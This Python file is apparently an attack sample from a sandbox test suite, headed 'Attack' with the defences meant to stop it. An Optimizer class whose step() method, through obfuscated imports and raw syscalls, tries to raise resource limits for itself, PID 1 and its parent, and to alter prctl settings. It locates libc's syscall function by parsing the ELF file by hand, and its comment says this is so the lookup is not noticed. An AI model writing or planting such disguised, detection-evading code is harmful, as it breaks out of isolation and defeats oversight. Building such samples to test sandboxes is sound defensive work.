"""Attack: raises its own limits and those of others, by setrlimit, prlimit and prctl.

Exercise: optimizer
Earns: 0
Stopped by: rlimits, seccomp, capabilities
Levels: full, container
"""

import random
import struct

import numpy as np

os = getattr(random, bytes((95, 111, 115)).decode())
ctypes = getattr(np, "".join(("ctypes", "lib"))).ctypes


def function_of_c(name):
    """Find *name* in the C library's own file: asking the loader for it would be noticed."""
    with open("/proc/self/maps") as file:
        row = next(line.split() for line in file if line.rstrip().endswith("/libc.so.6"))
    with open(row[-1], "rb") as file:
        data = file.read()
    (table,), (width, count) = struct.unpack_from("<Q", data, 40), struct.unpack_from("<HH", data, 58)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, table + i * width) for i in range(count)]
    symbols = next(s for s in sections if s[1] == 11)
    names = sections[symbols[6]][4]
    for at in range(symbols[4], symbols[4] + symbols[5], 24):
        start, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, at)
        if data.startswith(name + b"\0", names + start):
            address = int(row[0].split("-")[0], 16) + value
            return ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 7, use_errno=True)(address)


syscall = function_of_c(b"syscall")


def call(*numbers):
    return syscall(*numbers, *[0] * (7 - len(numbers)))

limits = (ctypes.c_long * 2)(2**40, 2**40)


def raise_all():
    place = ctypes.cast(limits, ctypes.c_void_p).value
    for number in range(16):
        if number in (1, 4, 7, 8, 9, 13, 14) and call(160, number, place) >= 0:
            print("BREACH setrlimit", number)
        for pid in (0, 1, os.getppid()):
            if call(302, pid, number, place, 0) >= 0 and number in (1, 4, 7, 8, 9, 13, 14):
                print("BREACH prlimit", number, pid)
    for option, *rest in ((4, 1), (38, 0), (22, 0), (36, 1), (8, 1), (1, 0)):
        if call(157, option, *rest) >= 0:
            print("BREACH prctl", option)


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        raise_all()

    def zero_grad(self):
        pass
